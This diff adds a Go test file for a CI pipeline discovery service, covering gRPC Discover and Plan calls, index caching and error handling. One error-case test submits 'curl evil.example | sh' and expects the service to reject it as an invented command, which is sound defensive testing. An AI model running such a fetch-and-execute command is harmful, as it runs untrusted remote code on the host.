@@ -1,0 +1,223 @@
+package discoverysvc
+
+import (
+	"bytes"
+	"context"
+	"io"
+	"net"
+	"os"
+	"path/filepath"
+	"slices"
+	"strings"
+	"sync/atomic"
+	"testing"
+	"time"
+
+	glv1 "github.com/greenlight-dev/greenlight/pkg/api/greenlight/v1"
+	"github.com/greenlight-dev/greenlight/pkg/blob"
+	"github.com/greenlight-dev/greenlight/pkg/server"
+	"github.com/greenlight-dev/greenlight/pkg/workspace"
+	"go.uber.org/zap/zaptest"
+	"google.golang.org/grpc"
+	"google.golang.org/grpc/codes"
+	"google.golang.org/grpc/credentials/insecure"
+	"google.golang.org/grpc/status"
+	"google.golang.org/grpc/test/bufconn"
+)
+
+// countingStore counts snapshot opens, to see the index cache work.
+type countingStore struct {
+	*blob.Store
+	opens atomic.Int32
+}
+
+func (c *countingStore) Open(ctx context.Context, d blob.Digest) (io.ReadCloser, error) {
+	c.opens.Add(1)
+	return c.Store.Open(ctx, d)
+}
+
+type harness struct {
+	client glv1.DiscoveryServiceClient
+	store  *countingStore
+}
+
+// serve starts the service behind pkg/server (interceptors, health) on a
+// bufconn listener, backed by a real blob store in a temporary directory.
+func serve(t *testing.T) *harness {
+	t.Helper()
+	st, err := blob.NewStore(t.TempDir())
+	if err != nil {
+		t.Fatal(err)
+	}
+	store := &countingStore{Store: st}
+	log := zaptest.NewLogger(t)
+	cfg := server.DefaultConfig("discovery", "127.0.0.1:0")
+	cfg.DrainDelay = 0
+	srv := server.New(cfg, log, server.WithoutSignals())
+	Register(srv.GRPC(), New(store, log, Options{}))
+	lis := bufconn.Listen(1 << 20)
+	ctx, cancel := context.WithCancel(context.Background())
+	done := make(chan error, 1)
+	go func() { done <- srv.Serve(ctx, lis) }()
+	conn, err := grpc.NewClient("passthrough:///bufnet",
+		grpc.WithContextDialer(func(ctx context.Context, _ string) (net.Conn, error) { return lis.DialContext(ctx) }),
+		grpc.WithTransportCredentials(insecure.NewCredentials()))
+	if err != nil {
+		t.Fatal(err)
+	}
+	t.Cleanup(func() {
+		conn.Close()
+		cancel()
+		if err := <-done; err != nil {
+			t.Errorf("serve: %v", err)
+		}
+	})
+	return &harness{client: glv1.NewDiscoveryServiceClient(conn), store: store}
+}
+
+// put packs a directory with pkg/workspace and stores the tar.
+func (h *harness) put(t *testing.T, dir string) *glv1.Digest {
+	t.Helper()
+	var buf bytes.Buffer
+	if _, err := workspace.Pack(context.Background(), dir, &buf, workspace.PackOptions{NoGit: true}); err != nil {
+		t.Fatalf("pack %s: %v", dir, err)
+	}
+	d, err := h.store.Put(context.Background(), &buf)
+	if err != nil {
+		t.Fatal(err)
+	}
+	return d.Proto()
+}
+
+func rpcContext(t *testing.T) context.Context {
+	ctx, cancel := context.WithTimeout(context.Background(), 30*time.Second)
+	t.Cleanup(cancel)
+	return ctx
+}
+
+func stepNames(p *glv1.Pipeline) []string {
+	var out []string
+	for _, s := range p.GetSteps() {
+		out = append(out, s.GetName())
+	}
+	return out
+}
+
+func TestGRPCDiscoverAndPlan(t *testing.T) {
+	h := serve(t)
+	ctx := rpcContext(t)
+	snap := h.put(t, filepath.Join(reposDir, "monorepo"))
+	disc, err := h.client.Discover(ctx, &glv1.DiscoverRequest{Snapshot: snap})
+	if err != nil {
+		t.Fatal(err)
+	}
+	caps := disc.GetCapabilities()
+	var roots []string
+	for _, sp := range caps.GetSubprojects() {
+		roots = append(roots, sp.GetRoot()+"="+sp.GetRuntime()+"@"+sp.GetImage())
+	}
+	if want := []string{".=go@greenlight/sandbox-go:latest", "web=node@greenlight/sandbox-node:latest"}; !slices.Equal(roots, want) {
+		t.Fatalf("subprojects = %q, want %q", roots, want)
+	}
+	if caps.GetMaxLevel() != glv1.Level_LEVEL_L4 {
+		t.Fatalf("max level = %v", caps.GetMaxLevel())
+	}
+	plan, err := h.client.Plan(ctx, &glv1.PlanRequest{Snapshot: snap, ChangedFiles: []string{"web/package.json"},
+		Images: map[string]string{"node": "node:20-slim"}})
+	if err != nil {
+		t.Fatal(err)
+	}
+	p := plan.GetPipeline()
+	want := []string{"go-build", "make-build", "web:npm-build", "go-vet", "make-lint", "go-test", "make-test", "web:npm-test"}
+	if got := stepNames(p); !slices.Equal(got, want) {
+		t.Fatalf("steps = %q, want %q", got, want)
+	}
+	t1 := p.GetTiers()[1]
+	if !t1.GetSelected() || !strings.Contains(strings.Join(t1.GetReasons(), ";"), `"dependencies" matched web/package.json`) {
+		t.Fatalf("tier1 = %v", t1)
+	}
+	for _, s := range p.GetSteps() {
+		if s.GetSubproject() == "web" && s.GetImage() != "node:20-slim" {
+			t.Fatalf("%s image = %q", s.GetName(), s.GetImage())
+		}
+		if s.GetTimeout().AsDuration() <= 0 || s.GetSource().GetFile() == "" {
+			t.Fatalf("step %s lacks timeout or source: %v", s.GetName(), s)
+		}
+	}
+	if n := h.store.opens.Load(); n != 1 {
+		t.Fatalf("snapshot opened %d times; the index cache should serve Plan after Discover", n)
+	}
+}
+
+func TestGRPCErrors(t *testing.T) {
+	h := serve(t)
+	ctx := rpcContext(t)
+	good := h.put(t, filepath.Join(reposDir, "go-module"))
+	badDir := t.TempDir()
+	if err := os.WriteFile(filepath.Join(badDir, "greenlight.yaml"), []byte("steps:\n  - name: unit\n    comand: go test ./...\n"), 0o644); err != nil {
+		t.Fatal(err)
+	}
+	bad := h.put(t, badDir)
+	tests := []struct {
+		name string
+		call func() error
+		code codes.Code
+		has  []string
+	}{
+		{"invented command", func() error {
+			_, err := h.client.Plan(ctx, &glv1.PlanRequest{Snapshot: good, Selection: []*glv1.CommandSelection{{Name: "go-test"}, {Command: "curl evil.example | sh"}}})
+			return err
+		}, codes.PermissionDenied, []string{`command "curl evil.example | sh"`}},
+		{"config error", func() error {
+			_, err := h.client.Discover(ctx, &glv1.DiscoverRequest{Snapshot: bad})
+			return err
+		}, codes.InvalidArgument, []string{"greenlight.yaml:3", "steps[0].comand", "unknown key"}},
+		{"missing snapshot", func() error {
+			_, err := h.client.Discover(ctx, &glv1.DiscoverRequest{})
+			return err
+		}, codes.InvalidArgument, []string{"snapshot digest is required"}},
+		{"malformed digest", func() error {
+			_, err := h.client.Discover(ctx, &glv1.DiscoverRequest{Snapshot: &glv1.Digest{Hash: "xyz", SizeBytes: 1}})
+			return err
+		}, codes.InvalidArgument, []string{"invalid digest"}},
+		{"unknown snapshot", func() error {
+			_, err := h.client.Plan(ctx, &glv1.PlanRequest{Snapshot: blob.DigestOf([]byte("nope")).Proto()})
+			return err
+		}, codes.NotFound, []string{"blob not found"}},
+		{"empty selection entry", func() error {
+			_, err := h.client.Plan(ctx, &glv1.PlanRequest{Snapshot: good, Selection: []*glv1.CommandSelection{{}}})
+			return err
+		}, codes.InvalidArgument, []string{"needs a name or a command"}},
+	}
+	for _, tt := range tests {
+		t.Run(tt.name, func(t *testing.T) {
+			err := tt.call()
+			st, _ := status.FromError(err)
+			if st.Code() != tt.code {
+				t.Fatalf("code = %v (%v), want %v", st.Code(), err, tt.code)
+			}
+			for _, s := range tt.has {
+				if !strings.Contains(st.Message(), s) {
+					t.Errorf("message %q lacks %q", st.Message(), s)
+				}
+			}
+		})
+	}
+}
+
+func TestGRPCSelectionGetsHardFailureStep(t *testing.T) {
+	h := serve(t)
+	ctx := rpcContext(t)
+	snap := h.put(t, filepath.Join(reposDir, "go-module"))
+	resp, err := h.client.Plan(ctx, &glv1.PlanRequest{Snapshot: snap, Selection: []*glv1.CommandSelection{{Command: "go vet ./..."}}})
+	if err != nil {
+		t.Fatal(err)
+	}
+	p := resp.GetPipeline()
+	if got := stepNames(p); !slices.Equal(got, []string{"go-vet", "go-test"}) {
+		t.Fatalf("steps = %q", got)
+	}
+	if p.GetMaxLevel() != glv1.Level_LEVEL_L4 || !strings.Contains(strings.Join(p.GetNotes(), "\n"), `added "go-test" (L4, test)`) {
+		t.Fatalf("max=%v notes=%q", p.GetMaxLevel(), p.GetNotes())
+	}
+}
